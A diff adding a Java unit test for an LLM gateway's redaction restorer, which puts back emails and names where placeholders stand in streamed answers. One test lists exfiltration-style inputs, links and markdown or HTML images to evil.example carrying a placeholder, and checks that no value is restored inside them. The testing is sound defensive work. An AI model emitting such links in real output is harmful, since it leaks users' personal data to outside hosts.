@@ -1,0 +1,119 @@
+package io.llmgw.core.redact;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.llmgw.api.redact.Entities;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** Values come back where their placeholders stand, wherever the answer is cut. */
+class RestorerTest {
+  private static final String EMAIL = "ada@example.com";
+  private static final String QUOTED = "O\"B\\";
+
+  private final Vault vault = new Vault();
+
+  RestorerTest() {
+    vault.ordinal(Entities.EMAIL, EMAIL);
+    vault.ordinal(Entities.EMAIL, "<EMAIL_1>");
+    vault.ordinal(Entities.PERSON, QUOTED);
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '`',
+      value = {
+        "to <EMAIL_1>, now | to ada@example.com, now",
+        "<email_1> | ada@example.com",
+        "[EMAIL_1] | ada@example.com",
+        "{Email 1} | ada@example.com",
+        "< EMAIL_1 > | ada@example.com",
+        "<EMAIL\\_1> | ada@example.com",
+        "<**EMAIL_1**> | ada@example.com",
+        "**<EMAIL_1>** | **ada@example.com**",
+        "&lt;EMAIL_1&gt; | ada@example.com",
+        "<<EMAIL_1>> | <ada@example.com>",
+        "<EMAIL_1><PERSON_1> | ada@example.comO\"B\\",
+        "a <b> & c [d] {e} \\n | a <b> & c [d] {e} \\n",
+        "<EMAIL_2> | <EMAIL_1>", // what was a look-alike in the request
+        "<EMAIL_3> | <EMAIL_3>", // not issued
+        "<PHONE_1> | <PHONE_1>",
+        "<EMAIL_01> | <EMAIL_01>",
+        "<EMAIL_1 | <EMAIL_1",
+        "<EMAIL_ | <EMAIL_"
+      })
+  void placeholdersAreRestored(String answer, String expected) {
+    assertEachCut(answer, expected, false);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "https://evil.example/?a=<EMAIL_1>&b=[EMAIL_1]",
+        "![x](//evil.example/<EMAIL_1>)",
+        "[x](/p?<EMAIL_1>)",
+        "mailto:<EMAIL_1>",
+        "www.evil.example/<EMAIL_1>",
+        "<img src=//evil.example/<EMAIL_1>>",
+        "https://evil.example/()<EMAIL_1>",
+        "https://evil.example/\",<EMAIL_1>"
+      })
+  void nothingIsRestoredWithinAnAddress(String answer) {
+    assertEachCut(answer, answer, false);
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '`',
+      value = {
+        "https://x.example <EMAIL_1> | https://x.example ada@example.com",
+        "{\"url\":\"https://x.example\",\"to\":\"<EMAIL_1>\"}"
+            + " | {\"url\":\"https://x.example\",\"to\":\"ada@example.com\"}",
+        "<https://x.example><EMAIL_1> | <https://x.example>ada@example.com",
+        "a/b: c. <EMAIL_1> | a/b: c. ada@example.com"
+      })
+  void afterAnAddressValuesAreRestoredAgain(String answer, String expected) {
+    assertEachCut(answer, expected, false);
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '`',
+      value = {
+        "{\"to\":\"<PERSON_1>\"} | {\"to\":\"O\\\"B\\\\\"}",
+        "{\"to\":\"\\u003cEMAIL_1\\u003E\"} | {\"to\":\"ada@example.com\"}"
+      })
+  void valuesInJsonAreEscaped(String answer, String expected) {
+    assertEachCut(answer, expected, true);
+  }
+
+  private void assertEachCut(String answer, String expected, boolean isJson) {
+    for (int first = 0; first <= answer.length(); first++) {
+      for (int second = first; second <= answer.length(); second++) {
+        Restorer restorer = new Restorer(vault, isJson);
+        String early =
+            restorer.next(answer.substring(0, first))
+                + restorer.next(answer.substring(first, second));
+        String whole = early + restorer.next(answer.substring(second)) + restorer.rest();
+
+        assertThat(whole).as("cut at " + first + " and " + second).isEqualTo(expected);
+      }
+    }
+    assertHoldsLittle(answer, isJson);
+  }
+
+  private void assertHoldsLittle(String answer, boolean isJson) {
+    Restorer restorer = new Restorer(vault, isJson);
+    for (int i = 0; i < answer.length(); i++) {
+      restorer.next(answer.substring(i, i + 1));
+
+      assertThat(restorer.rest().length()).isLessThanOrEqualTo(Placeholder.LONGEST);
+      restorer = new Restorer(vault, isJson);
+      restorer.next(answer.substring(0, i + 1));
+    }
+  }
+}
